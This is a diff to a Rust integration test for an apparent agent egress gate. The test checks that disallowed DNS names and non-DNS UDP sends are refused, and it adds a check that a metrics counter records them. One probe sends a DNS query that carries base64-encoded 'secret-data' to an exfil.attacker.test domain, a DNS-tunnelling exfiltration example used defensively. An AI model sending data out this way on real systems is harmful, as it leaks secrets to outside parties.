@@ -162,7 +162,13 @@ fn a_skill_reaches_a_backend_declared_by_name_only_through_the_name() {
 fn names_no_rule_allows_never_reach_the_resolver() {
     let backend = Server::start("orders", "127.0.0.1:0");
     let dns = dnsmasq(60);
-    let env = env("dns-refused", &backend, &dns, "");
+    let metrics = skillgate_tests::free_port();
+    let env = env(
+        "dns-refused",
+        &backend,
+        &dns,
+        &format!("metrics_listen = \"127.0.0.1:{metrics}\""),
+    );
     let _agent = env.start_agent();
     let probe = run_probe(
         &env,
@@ -171,7 +177,19 @@ fn names_no_rule_allows_never_reach_the_resolver() {
             query("c2VjcmV0LWRhdGE.exfil.attacker.test", ""),
             query("files.mirror.skillgate.test", ",TXT"),
             query("files.mirror.skillgate.test", ""),
+            // Not DNS at all: dropped and counted, never forwarded.
+            format!("udp_connect:{RESOLVER},53"),
+            format!("udp_sendto:{RESOLVER},53"),
         ],
+    );
+    let scraped = std::process::Command::new("curl")
+        .args(["-sS", &format!("http://127.0.0.1:{metrics}/metrics")])
+        .output()
+        .unwrap();
+    let scraped = String::from_utf8_lossy(&scraped.stdout);
+    assert!(
+        scraped.contains("skillgate_dns_malformed_total 2"),
+        "{scraped}"
     );
     assert_eq!(probe.result(0), "ok rcode=5 ");
     // TXT is no address query: only a rule listing it in `dns_types` lets it through.
